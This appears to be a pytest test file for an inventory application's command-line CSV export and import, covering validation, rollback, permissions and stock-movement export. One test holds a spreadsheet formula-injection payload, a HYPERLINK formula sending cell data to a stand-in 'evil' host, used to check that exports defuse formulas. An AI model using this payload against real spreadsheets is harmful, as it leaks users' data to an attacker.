import asyncio
import csv
import os
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import delete, func, insert, select
from sqlalchemy.ext.asyncio import AsyncSession

from api.commands import items_csv
from api.errors import Conflict
from api.services import items as item_services
from models.audit_event import AuditEvent
from models.enums import MovementReason, Role
from models.item import Item
from models.stock_movement import StockMovement
from models.user import User
from tests.cli_runner import run_cli
from tests.conftest import clear_settings
from tests.factories import make_item, make_user
from tests.server import INVENTORY
from tests.stock_checks import assert_movements_add_up

HEADER = "sku,name,quantity,description\n"


async def _items(db: AsyncSession) -> list[tuple[Any, ...]]:
    """Every item as the database has it now; ends the read so the next one sees new commits."""
    rows = await db.execute(
        select(
            Item.id,
            Item.sku,
            Item.name,
            Item.quantity,
            Item.description,
            Item.version,
            Item.created_by_id,
            Item.updated_by_id,
        ).order_by(Item.id)
    )
    result = [tuple(r) for r in rows]
    await db.commit()  # (the sessionmaker keeps objects loaded on commit; a rollback would not)
    return result


@pytest.fixture
async def editor(db: AsyncSession) -> User:
    return await make_user(db, Role.editor, username="stock")


def _csv(tmp_path: Path, text: str) -> str:
    path = tmp_path / "items.csv"
    path.write_text(text, encoding="utf-8")
    return str(path)


# --- export ---------------------------------------------------------------------------------


async def test_export_writes_every_item(
    db: AsyncSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await make_item(db, name="Hex bolt", quantity=40, sku="BOLT-1", description="zinc, 40 mm")
    await make_item(db, name='Washer "A", 8 mm', quantity=0)
    target = tmp_path / "out.csv"

    assert await run_cli("export", str(target)) == 0

    assert target.read_bytes().decode() == (
        'sku,name,quantity,description\r\nBOLT-1,Hex bolt,40,"zinc, 40 mm"\r\n'
        ',"Washer ""A"", 8 mm",0,\r\n'
    )
    assert capsys.readouterr().out == f"exported 2 items to {target}\n"


async def test_export_to_standard_output(
    db: AsyncSession, capsys: pytest.CaptureFixture[str]
) -> None:
    await make_item(db, name="Nut", quantity=3, sku="NUT")
    assert await run_cli("export", "-") == 0
    out = capsys.readouterr()
    assert out.out == "sku,name,quantity,description\r\nNUT,Nut,3,\r\n"
    assert out.err == "exported 1 item to -\n"


async def test_export_into_a_missing_folder_fails_cleanly(
    db: AsyncSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await run_cli("export", str(tmp_path / "nowhere" / "out.csv")) == 1
    assert capsys.readouterr().err.startswith("inventory: error: cannot write ")
    assert not (tmp_path / "nowhere").exists()


# --- import ---------------------------------------------------------------------------------


async def test_import_creates_and_updates_by_sku(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bolt = await make_item(db, name="Bolt", quantity=5, sku="BOLT", description="old")
    nut = await make_item(db, name="Nut", quantity=9, sku="NUT")
    file = _csv(
        tmp_path,
        HEADER
        + "BOLT,Hex bolt M8,40,\n"  # update: name, quantity, description cleared
        + "NUT,Nut,9,\n"  # the same as stored: unchanged
        + "WASHER,Washer,100,flat\n"  # new sku: created
        + ",Spring,3,no sku\n",  # no sku: created
    )

    assert await run_cli("import", file, "--as", "stock") == 0

    assert capsys.readouterr().out == (
        f"imported 4 rows from {file}: 2 created, 1 updated, 1 unchanged\n"
    )
    rows = await _items(db)
    assert rows[:2] == [
        (bolt.id, "BOLT", "Hex bolt M8", 40, None, 2, None, editor.id),
        (nut.id, "NUT", "Nut", 9, None, 1, None, None),
    ]
    assert [r[1:] for r in rows[2:]] == [
        ("WASHER", "Washer", 100, "flat", 1, editor.id, editor.id),
        (None, "Spring", 3, "no sku", 1, editor.id, editor.id),
    ]


async def test_columns_in_any_order_and_a_multi_line_description(
    db: AsyncSession, editor: User, tmp_path: Path
) -> None:
    file = _csv(tmp_path, 'quantity,name,description\n2,Hook,"line one\nline two"\n')
    assert await run_cli("import", file, "--as", "stock") == 0
    assert [r[1:5] for r in await _items(db)] == [(None, "Hook", 2, "line one\nline two")]


async def test_export_then_import_changes_nothing(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await make_item(db, name="Bolt", quantity=5, sku="BOLT", description="a, b\nc")
    await make_item(db, name="Nut", quantity=0, sku="NUT")
    before = await _items(db)
    file = str(tmp_path / "items.csv")
    assert await run_cli("export", file) == 0
    assert await run_cli("import", file, "--as", "stock") == 0
    assert capsys.readouterr().out.endswith("0 created, 0 updated, 2 unchanged\n")
    assert await _items(db) == before


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            HEADER + "A,Bolt,1,\nB,Nut,-1,\n",
            "line 3: quantity: Input should be greater than or equal to 0",
        ),
        (
            HEADER + "A,Bolt,1,\nB,Nut,many,\n",
            "line 3: quantity: must be a whole number, not 'many'",
        ),
        (HEADER + "A,Bolt,1,\nB,,1,\n", "line 3: name: Field required"),
        (HEADER + "A,Bolt,1,\nB,  ,1,\n", "line 3: name: Value error, must not be blank"),
        (HEADER + "A,Bolt,1,\nB,Nut,1\n", "line 3: 3 cells, the header has 4"),
        (HEADER + 'A,Bolt,1,"two\nlines"\nB,Nut,x,\n', "line 4: quantity: must be a whole number"),
        (HEADER + "A,Bolt,1,\nB,Nut,1,\nA,Again,2,\n", "line 4: sku 'A' already appears on line 2"),
        ("id,name,quantity\n1,Bolt,1\n", "line 1: unknown column(s) id"),
        ("name,sku\nBolt,A\n", "line 1: missing column(s) quantity"),
        ("", "the file is empty"),
    ],
)
async def test_a_bad_row_stops_the_import_and_nothing_is_written(
    db: AsyncSession,
    editor: User,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    text: str,
    message: str,
) -> None:
    await make_item(db, name="Bolt", quantity=5, sku="A")
    before = await _items(db)

    assert await run_cli("import", _csv(tmp_path, text), "--as", "stock") == 1

    out = capsys.readouterr()
    assert out.err.startswith(f"inventory: error: {message}"), out.err
    assert out.out == ""
    assert await _items(db) == before


async def test_a_failure_while_writing_rolls_back_every_row(
    db: AsyncSession,
    editor: User,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await make_item(db, name="Bolt", quantity=5, sku="A")
    before = await _items(db)
    create_many = item_services.create_many
    calls = 0

    async def fail_on_the_second(*args: Any, **kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise Conflict("the database said no")
        return await create_many(*args, **kwargs)

    monkeypatch.setattr(item_services, "create_many", fail_on_the_second)
    monkeypatch.setattr(items_csv, "_CREATE_BATCH", 2)  # so the first two reach the database
    file = _csv(tmp_path, HEADER + "A,Bolt,7,\nB,One,1,\nC,Two,2,\nD,Three,3,\n")

    assert await run_cli("import", file, "--as", "stock") == 1

    assert capsys.readouterr().err == "inventory: error: the database said no\n"
    assert calls == 2
    assert await _items(db) == before  # the update of A and the creates before are gone too


@pytest.mark.parametrize(
    ("who", "message"),
    [
        ("reader", "'reader' may not edit items (needs an active editor or admin)"),
        ("nobody", "no user named 'nobody'"),
    ],
)
async def test_the_actor_must_be_an_editor(
    db: AsyncSession,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    who: str,
    message: str,
) -> None:
    await make_user(db, Role.viewer, username="reader")
    assert await run_cli("import", _csv(tmp_path, HEADER + ",Bolt,1,\n"), "--as", who) == 1
    assert capsys.readouterr().err == f"inventory: error: {message}\n"
    assert await _items(db) == []


async def test_the_actor_defaults_to_the_first_admin(
    db: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    admin = await make_user(db, Role.admin, username="boss")
    monkeypatch.setenv("FIRST_ADMIN_USERNAME", "boss")
    clear_settings()
    assert await run_cli("import", _csv(tmp_path, HEADER + ",Bolt,1,\n")) == 0
    assert [(r[2], r[6]) for r in await _items(db)] == [("Bolt", admin.id)]


async def test_a_progress_bar_when_asked(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "".join(f"SKU-{n},Item {n},{n},\n" for n in range(250))
    assert (
        await run_cli("import", _csv(tmp_path, HEADER + rows), "--as", "stock", "--progress") == 0
    )
    err = capsys.readouterr().err
    assert err.startswith("\rimporting [")
    assert err.endswith(f"[{'#' * 30}] 100% 250/250\n")
    assert len(await _items(db)) == 250


async def test_no_progress_bar_when_not_on_a_terminal(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "".join(f",Item {n},{n},\n" for n in range(1200))
    assert await run_cli("import", _csv(tmp_path, HEADER + rows), "--as", "stock") == 0
    out = capsys.readouterr()
    assert out.err == ""
    assert out.out.endswith("1200 created, 0 updated, 0 unchanged\n")


async def test_import_a_missing_file(
    db: AsyncSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await run_cli("import", str(tmp_path / "nope.csv")) == 1
    assert capsys.readouterr().err.startswith("inventory: error: cannot read ")


FORMULAS = [
    '=HYPERLINK("http://evil/"&A1,"x")',
    "+1+1",
    "-2-2",
    "@SUM(A1:A9)",
    "'=quoted already",
    "''@twice",
    "'plain quote",
    "plain",
]


async def test_export_defuses_formulas_and_import_restores_them_exactly(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 14, point 4: an item named =HYPERLINK(...) ran in a spreadsheet."""
    for n, text in enumerate(FORMULAS):
        await make_item(db, name=text, sku=f"{text[:40]}#{n}", quantity=n, description=text)
    await make_item(db, name="tab", sku="TAB", quantity=1, description="\tindented\r\nline")
    before = await _items(db)
    file = tmp_path / "items.csv"
    assert await run_cli("export", str(file)) == 0
    rows = list(csv.reader(file.read_text(encoding="utf-8").splitlines(keepends=True)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = [row[1] for row in rows[1:]]
    assert names[:4] == ["'" + text for text in FORMULAS[:4]]
    assert names[4:8] == ["''=quoted already", "'''@twice", "'plain quote", "plain"]

    assert await run_cli("import", str(file), "--as", "stock") == 0
    assert capsys.readouterr().out.endswith(f"0 created, 0 updated, {len(before)} unchanged\n")
    assert await _items(db) == before
    # Into an empty inventory, too: the same text comes back.
    await db.execute(delete(Item))
    await db.commit()
    assert await run_cli("import", str(file), "--as", "stock") == 0
    restored = await db.execute(select(Item.sku, Item.name, Item.description).order_by(Item.id))
    assert [tuple(r) for r in restored] == [(r[1], r[2], r[4]) for r in before]


# --- stock movements ------------------------------------------------------------------------


async def test_import_records_its_movements_with_a_note_naming_the_file(
    db: AsyncSession, editor: User, tmp_path: Path
) -> None:
    await make_item(db, name="Bolt", quantity=5, sku="A")
    await make_item(db, name="Nut", quantity=2, sku="B")
    file = _csv(tmp_path, HEADER + "A,Bolt,7,\nB,Nut,2,\nC,New,4,\nD,Empty,0,\n")

    assert await run_cli("import", file, "--as", "stock") == 0

    await db.commit()
    rows = await db.execute(
        select(Item.sku, StockMovement.delta, StockMovement.reason, StockMovement.note)
        .join(Item, Item.id == StockMovement.item_id)
        .where(StockMovement.user_id == editor.id)
        .order_by(StockMovement.id)
    )
    note = "CSV import of items.csv"
    assert [tuple(r) for r in rows] == [
        ("A", 2, MovementReason.correction, note),
        ("C", 4, MovementReason.received, note),
    ]
    await assert_movements_add_up(db)
    events = await db.execute(
        select(AuditEvent.action, AuditEvent.actor_id, AuditEvent.address)
        .where(AuditEvent.actor_id == editor.id)
        .order_by(AuditEvent.id)
    )
    assert [tuple(e) for e in events] == [
        ("item.update", editor.id, None),
        ("item.create", editor.id, None),
        ("item.create", editor.id, None),
    ]


async def test_export_movements_writes_them_oldest_first(
    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    item = await make_item(db, name='Washer "A"', quantity=3, sku="W")
    gone = await make_user(db, Role.editor)
    db.add_all(
        [
            StockMovement(
                item_id=item.id,
                delta=-1,
                quantity_after=2,
                reason=MovementReason.sold,
                note="order 7, box 2",
                user_id=editor.id,
                created_at=datetime(2026, 3, 1, 12, tzinfo=UTC),
            ),
            StockMovement(
                item_id=item.id,
                delta=1,
                quantity_after=3,
                reason=MovementReason.returned,
                user_id=gone.id,
                created_at=datetime(2026, 3, 2, 12, tzinfo=UTC),
            ),
        ]
    )
    await db.commit()
    await db.delete(gone)
    await db.commit()
    target = tmp_path / "movements.csv"

    window = ["--since", "2026-03-01", "--until", "2026-04-01T00:00:00+02:00"]
    assert await run_cli("export-movements", str(target), *window) == 0

    assert target.read_text().splitlines() == [
        "id,created_at,item_id,sku,name,delta,quantity_after,reason,note,user",
        f'2,2026-03-01T12:00:00+00:00,{item.id},W,"Washer ""A""",-1,2,sold,"order 7, box 2",stock',
        f'3,2026-03-02T12:00:00+00:00,{item.id},W,"Washer ""A""",1,3,returned,,',
    ]
    assert capsys.readouterr().out == f"exported 2 movements to {target}\n"

    assert await run_cli("export-movements", "-") == 0  # all of them: the creation's too
    out = capsys.readouterr().out.splitlines()
    assert [line.split(",")[0] for line in out] == ["id", "1", "2", "3"]


async def test_export_movements_refuses_a_bad_date(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        await run_cli("export-movements", "-", "--since", "last tuesday")
    assert "not an ISO 8601 date or time" in capsys.readouterr().err


async def test_import_of_one_row_says_row(
    db: AsyncSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await make_user(db, Role.admin, username="admin")
    file = tmp_path / "one.csv"
    file.write_text("sku,name,quantity,description\nNUT,Nut,3,\n")
    assert await run_cli("import", str(file)) == 0
    assert capsys.readouterr().out == (
        f"imported 1 row from {file}: 1 created, 0 updated, 0 unchanged\n"
    )
    assert await db.scalar(select(func.count()).select_from(Item)) == 1


async def test_export_into_a_closed_pipe_ends_quietly(
    db: AsyncSession, database_url: str, data_dir: Path
) -> None:
    await make_item(db, name="first", quantity=1)
    # Far more than a pipe holds, so the export is still writing when the reader leaves.
    filler = "x" * 200
    await db.execute(
        insert(Item),
        [{"name": f"item {n}", "quantity": 0, "description": filler} for n in range(3000)],
    )
    await db.commit()
    status, err = await asyncio.to_thread(_export_then_close, database_url, data_dir)
    assert (status, err) == (141, "")


def _export_then_close(database_url: str, data_dir: Path) -> tuple[int, str]:
    """`inventory export - | head -n 1`: the reader takes a line and goes away."""
    env = {**os.environ, "DATABASE_URL": database_url, "DATA_DIR": str(data_dir)}
    proc = subprocess.Popen(  # noqa: S603  (our own console script)
        [INVENTORY, "export", "-"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    assert proc.stdout is not None
    assert proc.stderr is not None
    assert proc.stdout.readline() == b"sku,name,quantity,description\r\n"
    proc.stdout.close()
    err = proc.stderr.read().decode()
    proc.stderr.close()
    return proc.wait(timeout=60), err
